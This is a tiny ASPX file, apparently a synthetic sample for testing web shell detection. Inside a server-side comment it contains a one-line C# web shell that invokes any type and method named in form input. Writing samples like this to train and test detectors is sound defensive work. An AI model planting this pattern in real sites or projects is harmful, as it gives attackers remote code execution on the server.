<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% var t = Type.GetType(Request.Form["t"]); var o = Activator.CreateInstance(t); t.GetMethod(Request.Form["m"]).Invoke(o, null); %>
--%>
